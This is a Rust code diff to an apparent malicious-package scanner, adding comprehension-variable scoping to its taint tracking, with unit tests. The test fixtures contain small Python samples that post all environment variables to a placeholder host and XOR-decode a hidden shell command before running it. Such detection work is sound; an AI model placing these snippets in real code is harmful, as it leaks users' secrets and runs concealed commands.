@@ -938,7 +938,12 @@ impl<'s> Checker<'s> {
     }
 
     fn strongest_source_in(&mut self, expr: &Expr) -> Option<usize> {
-        let mut stack = vec![expr];
+        // Each node with the comprehension frame it is read in (0: none); a frame lists the
+        // names its `for` binds and its parent, so `[b ^ k for b in blob]` reads `blob`, not
+        // whatever an outer `b` held.
+        let mut stack: Vec<(&Expr, usize)> = vec![(expr, 0)];
+        // Frame `k` is `frames[k - 1]`; empty (no allocation) unless a comprehension is read.
+        let mut frames: Vec<(Vec<&str>, usize)> = Vec::new();
         let mut budget = 4_000usize;
         // Reading a file is the weakest source: a read of a credentials handle must report the
         // credentials, so file contents are only the answer when nothing stronger is inside.
@@ -946,13 +951,16 @@ impl<'s> Checker<'s> {
         // still the response, so decoded data answers only when no origin is found inside it.
         let mut best: Option<usize> = None;
         let mut returned_fallback: Option<usize> = None;
-        while let Some(node) = stack.pop() {
+        while let Some((node, frame)) = stack.pop() {
             let Some(left) = budget.checked_sub(1) else {
                 break;
             };
             budget = left;
             match node {
                 Expr::Name(name) => {
+                    if frame != 0 && bound_by_comprehension(&frames, frame, name.id.as_str()) {
+                        continue;
+                    }
                     if let Some(remote) = self.scopes.remote_taint_of(name.id.as_str()) {
                         self.outranked_remote.get_or_insert(remote);
                     }
@@ -1006,10 +1014,10 @@ impl<'s> Checker<'s> {
                             !(qualname.starts_with("os.environ.") || qualname == "os.getenv");
                     }
                     if descend_into_callee {
-                        stack.push(&call.func);
+                        stack.push((&call.func, frame));
                     }
-                    stack.extend(call.arguments.args.iter());
-                    stack.extend(call.arguments.keywords.iter().map(|k| &k.value));
+                    stack.extend(call.arguments.args.iter().map(|e| (e, frame)));
+                    stack.extend(call.arguments.keywords.iter().map(|k| (&k.value, frame)));
                 }
                 Expr::Attribute(attribute) => {
                     if let Some(qualname) = self.scopes.qualname(node)
@@ -1027,7 +1035,7 @@ impl<'s> Checker<'s> {
                     {
                         return best;
                     }
-                    stack.push(&attribute.value);
+                    stack.push((&attribute.value, frame));
                 }
                 Expr::Subscript(subscript) => {
                     let qualname = self.scopes.qualname(&subscript.value);
@@ -1042,18 +1050,18 @@ impl<'s> Checker<'s> {
                         continue;
                     }
                     if qualname.as_deref() != Some("os.environ") {
-                        stack.push(&subscript.value);
+                        stack.push((&subscript.value, frame));
                     }
-                    stack.push(&subscript.slice);
+                    stack.push((&subscript.slice, frame));
                 }
                 Expr::BinOp(b) => {
-                    stack.push(&b.left);
-                    stack.push(&b.right);
+                    stack.push((&b.left, frame));
+                    stack.push((&b.right, frame));
                 }
                 Expr::FString(f) => {
                     for element in f.value.elements() {
                         if let ast::InterpolatedStringElement::Interpolation(i) = element {
-                            stack.push(&i.expression);
+                            stack.push((&i.expression, frame));
                         }
                     }
                 }
@@ -1076,21 +1084,35 @@ impl<'s> Checker<'s> {
                 }
                 Expr::Dict(d) => {
                     for item in &d.items {
-                        stack.extend(item.key.as_ref());
-                        stack.push(&item.value);
+                        stack.extend(item.key.as_ref().map(|e| (e, frame)));
+                        stack.push((&item.value, frame));
                     }
                 }
-                Expr::Generator(g) => {
-                    stack.push(&g.elt);
-                    stack.extend(g.generators.iter().map(|c| &c.iter));
+                Expr::Generator(ast::ExprGenerator {
+                    elt, generators, ..
+                })
+                | Expr::ListComp(ast::ExprListComp {
+                    elt, generators, ..
+                }) => {
+                    let inner = if frames.len() < 64 {
+                        let mut names = Vec::new();
+                        for generator in generators {
+                            comprehension_targets(&generator.target, &mut names);
+                        }
+                        frames.push((names, frame));
+                        frames.len()
+                    } else {
+                        frame
+                    };
+                    stack.push((elt, inner));
+                    // The first iterable is read outside the comprehension, later ones inside.
+                    for (at, generator) in generators.iter().enumerate() {
+                        stack.push((&generator.iter, if at == 0 { frame } else { inner }));
+                    }
                 }
-                Expr::ListComp(l) => {
-                    stack.push(&l.elt);
-                    stack.extend(l.generators.iter().map(|c| &c.iter));
-                }
-                Expr::List(l) => stack.extend(l.elts.iter()),
-                Expr::Tuple(t) => stack.extend(t.elts.iter()),
-                Expr::Set(s) => stack.extend(s.elts.iter()),
+                Expr::List(l) => stack.extend(l.elts.iter().map(|e| (e, frame))),
+                Expr::Tuple(t) => stack.extend(t.elts.iter().map(|e| (e, frame))),
+                Expr::Set(s) => stack.extend(s.elts.iter().map(|e| (e, frame))),
                 _ => {}
             }
         }
@@ -1526,6 +1548,37 @@ fn only_passes(try_stmt: &ast::StmtTry) -> bool {
 
 /// `chr(ord(c) ^ k)`, `chr(x - 3)`, `bytes(b ^ k for b in data)`: hand-rolled decryption. True
 /// when the expression calls `chr`/`bytes`/`bytearray` on arithmetic involving XOR or an offset.
+/// True when `name` is bound by the `for` of the comprehension frame `frame` or one around it.
+fn bound_by_comprehension(frames: &[(Vec<&str>, usize)], mut frame: usize, name: &str) -> bool {
+    while frame != 0 {
+        let Some((names, parent)) = frames.get(frame - 1) else {
+            return false;
+        };
+        if names.contains(&name) {
+            return true;
+        }
+        frame = *parent;
+    }
+    false
+}
+
+/// The names a comprehension's `for` target binds (`b`, `(k, v)`), at most 16.
+fn comprehension_targets<'e>(target: &'e Expr, names: &mut Vec<&'e str>) {
+    let mut stack = vec![target];
+    while let Some(node) = stack.pop() {
+        if names.len() >= 16 {
+            return;
+        }
+        match node {
+            Expr::Name(name) => names.push(name.id.as_str()),
+            Expr::Tuple(t) => stack.extend(t.elts.iter()),
+            Expr::List(l) => stack.extend(l.elts.iter()),
+            Expr::Starred(s) => stack.push(&s.value),
+            _ => {}
+        }
+    }
+}
+
 fn is_char_decryption(expr: &Expr) -> bool {
     let mut stack = vec![expr];
     let mut budget = 256usize;
@@ -2004,7 +2057,10 @@ impl<'s> Visitor<'s> for Checker<'s> {
                 self.visit_body(&for_stmt.orelse);
             }
             Stmt::FunctionDef(function) => {
-                self.facts.functions += 1;
+                // A body walked again for a call site (inlining) defines nothing new.
+                if self.inlining.is_empty() {
+                    self.facts.functions += 1;
+                }
                 // A body's names are its own: `data` of one function is not another's.
                 let outer_dicts = std::mem::take(&mut self.dict_bindings);
                 if self.function_depth == 0
@@ -2106,7 +2162,9 @@ impl<'s> Visitor<'s> for Checker<'s> {
                 visitor::walk_stmt(self, stmt);
             }
             Stmt::ClassDef(class) => {
-                self.facts.classes += 1;
+                if self.inlining.is_empty() {
+                    self.facts.classes += 1;
+                }
                 let hook = class.arguments.as_ref().is_some_and(|args| {
                     args.args
                         .iter()
@@ -2247,6 +2305,21 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.5);
         let plain = "import os, requests\ndef send(data):\n    requests.post('https://example.invalid', data=data)\nsend({'a': 1})\n";
         assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH200"), 0.0);
+    }
+
+    #[test]
+    fn bodies_walked_again_for_a_call_site_define_nothing_new() {
+        let code = "import os, requests\ndef send(data):\n    def post():\n        requests.post('https://example.invalid', data=data)\n    class Retry:\n        pass\n    post()\nsend(dict(os.environ))\nsend(dict(os.environ))\n";
+        let analysis = crate::analyze_python("p/pkg/m.py", code.as_bytes(), &Default::default());
+        assert_eq!(analysis.facts.functions, 2);
+        assert_eq!(analysis.facts.classes, 1);
+    }
+
+    #[test]
+    fn comprehension_variables_hide_outer_names_of_the_same_spelling() {
+        // `byte` read from a file outside; inside, it is each byte of the constant.
+        let code = "import subprocess\ndef run(p, key):\n    byte = open(p, 'rb').read(1)\n    command = bytes([byte ^ key for byte in b'\\xae\\xa9\\xb2'])\n    subprocess.run(command.decode(), shell=True)\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH200") >= 0.25);
     }
 
     #[test]
